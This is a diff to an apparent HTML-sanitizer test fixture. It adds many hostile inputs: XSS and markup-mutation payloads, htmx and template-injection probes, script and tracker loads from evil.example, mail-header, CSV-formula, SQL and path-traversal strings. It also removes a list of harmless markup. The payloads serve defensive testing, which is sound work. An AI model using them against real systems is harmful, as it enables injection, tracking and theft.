@@ -1,4 +1,4 @@
-"""HTML that somebody might try to get past us, and HTML that must come through unchanged."""
+"""HTML that somebody might try to get past us."""
 
 from __future__ import annotations
 
@@ -237,6 +237,95 @@ MARKUP = [
     "</p></a></script><p>a",
     "<a><a><a></a>x",
     "<p><br><br></p><p>&nbsp;</p><ul><li></li></ul>",
+    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
+    "<math><mi><table><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>",
+    "<form><input name=attributes><input name=parentNode></form><img src=x onerror=alert(1)>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
+    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
+    "<svg><image href=https://evil.example/pwned.svg></svg>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
+    "<p>&#x3c;img src=x onerror=alert(1)&#x3e;</p>",
+    "<p>&LT;script&GT;alert(1)&lt;&sol;script&gt;</p>",
+]
+
+#: What our own scripts, or a template compiled by mistake, would obey.
+LIVE = [
+    "<p hx-get='/pwned' hx-trigger=load>a</p>",
+    "<p data-hx-get='/pwned' data-hx-trigger='load delay:1ms'>a</p>",
+    "<a href='https://a.example' hx-boost=true hx-post='/pwned' hx-trigger='revealed'>a</a>",
+    "<p hx-on::load='alert(1)' hx-on:htmx:load=alert(1)>a</p>",
+    "<p hx-vals='js:{a:alert(1)}' hx-get=/pwned hx-trigger='every 1ms'>a</p>",
+    "<p hx-swap-oob=true id=content>a</p>",
+    "<p x-data x-init='alert(1)' v-html='alert(1)' ng-init='alert(1)'>a</p>",
+    '<textarea data-django-prose-editor-configurable=\'{"js_modules":["/pwned"]}\'>a</textarea>',
+    '<script type=importmap>{"imports":{"a":"https://evil.example/pwned.js"}}</script>',
+    "<script type=module src=https://evil.example/pwned.js></script>",
+    "<p>{{ 7*7 }} {{7*7}} ${7*7} #{7*7} <%= 7*7 %></p>",
+    "<p>{% debug %}{% include '/etc/passwd' %}{% load os %}</p>",
+    "<p>{{ request.user.password }}{{ settings.SECRET_KEY }}</p>",
+    "<p>{{constructor.constructor('alert(1)')()}}</p>",
+    "%(name)s %s %n {0.__class__} {name!r:>9999}",
+]
+
+#: What loads something from elsewhere, so that somebody learns who reads.
+FOREIGN = [
+    "<img src=https://evil.example/pwned.gif>",
+    "<img srcset='https://evil.example/pwned.gif 1x'>",
+    "<p style='background:url(https://evil.example/pwned.gif)'>a</p>",
+    '<p style="width:expression(alert(1));behavior:url(https://evil.example/pwned)">a</p>',
+    "<style>@import 'https://evil.example/pwned.css';</style>",
+    "<style>p{background:url(//evil.example/pwned.gif)}</style>",
+    "<link rel=stylesheet href=https://evil.example/pwned.css>",
+    "<link rel=preload as=image href=//evil.example/pwned.gif>",
+    "<video poster=https://evil.example/pwned.gif><source src=https://evil.example/pwned></video>",
+    "<audio autoplay src=//evil.example/pwned></audio>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<iframe src=//evil.example/pwned></iframe>",
+    "<object data=//evil.example/pwned></object><embed src=//evil.example/pwned>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/pwned'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/pwned><button autofocus>a</button></form>",
+    "<body background=//evil.example/pwned.gif onload=alert(1)>",
+    "<table background=//evil.example/pwned.gif><td>a</td></table>",
+]
+
+#: What breaks out of plain text: out of an attribute, a heading of a mail, a line of a log, a cell.
+PLAIN = [
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "' autofocus onfocus=alert(1) x='",
+    "`-alert(1)-`",
+    "';alert(1)//",
+    '\\";alert(1)//',
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<script>window.pwned=1</script>",
+    "javascript:alert(1)",
+    "Fog\r\nBcc: all@evil.example\r\n\r\n<script>alert(1)</script>",
+    "Fog\nINFO user=vera logged in",
+    "Fog\x1b[2J\x1b]0;pwned\x07",
+    "Fog\u2028alert(1)\u2029",
+    "\u202egpj.exe",
+    "\u2067\u2066Fog\u2069\u2069",
+    "F\u200bo\u200cg\u200d\u2060\ufeff",
+    "Fog\u0085\u00ad\u180e",
+    "F" + "\u0301\u0489" * 20,
+    '=HYPERLINK("https://evil.example/pwned","Fog")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1-1",
+    "@SUM(1)",
+    "../../../etc/passwd",
+    "'; DROP TABLE newsroom_issue; --",
+    '" OR 1=1 --',
+    "%00%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&quot; onclick=alert(1) &quot;",
 ]
 
 
@@ -266,37 +355,4 @@ def _links() -> list[str]:
     return [f'<p><a href="{address}">somewhere</a></p>' for address in ADDRESSES]
 
 
-ROWS = [*_elements(), *_attributes(), *_links(), *MARKUP]
-
-#: What an editor's toolbar makes: it must come back letter for letter.
-HARMLESS = [
-    "<p>The pilots went home.</p>",
-    "<p>One</p><p>Two</p>",
-    "<p>One</p>\n<p>Two</p>",
-    "<p>a<br>b</p>",
-    "<p><strong>Bold</strong> and <em>leaning</em></p>",
-    "<p><strong><em>Both</em></strong></p>",
-    '<p><a href="https://ledger.example/story">The Ledger</a></p>',
-    '<p><a href="http://ledger.example:8080/a/b?c=d#e">The Ledger</a></p>',
-    '<p><a href="https://ledger.example/?a=1&amp;b=2">The Ledger</a></p>',
-    '<p><a href="https://ledger.example/%C3%A9t%C3%A9?q=%20">The Ledger</a></p>',
-    '<p><a href="https://bücher.example/straße">A shop</a></p>',
-    '<p><a href="https://xn--bcher-kva.example/">A shop</a></p>',
-    '<p><a href="mailto:desk@strait.example">Write to us</a></p>',
-    '<p><a href="https://a.example"><strong>Bold link</strong></a></p>',
-    "<h3>A heading</h3><p>Text</p>",
-    "<h4>A smaller one</h4>",
-    "<blockquote><p>He said so.</p></blockquote>",
-    "<ul><li><p>One</p></li><li><p>Two</p></li></ul>",
-    "<ol><li>One</li><li>Two</li></ol>",
-    "<ul><li><p>One</p><ul><li><p>Deeper</p></li></ul></li></ul>",
-    "<p>5 &lt; 6 &amp; 7 &gt; 6</p>",
-    "<p>“Quoted”, ‘quoted’ – dash — and…</p>",
-    "<p>No.&nbsp;12</p>",
-    "<p>Преса, 新聞, الصحافة, עיתון, ελληνικά</p>",
-    "<p>𝄞 and 👩‍🚀</p>",
-    "<p>&amp;lt;p&amp;gt; is how a paragraph is written</p>",
-    "<p>1&nbsp;000 t</p>",
-    "Words without a paragraph",
-    "",
-]
+ROWS = [*_elements(), *_attributes(), *_links(), *MARKUP, *LIVE, *FOREIGN, *PLAIN]
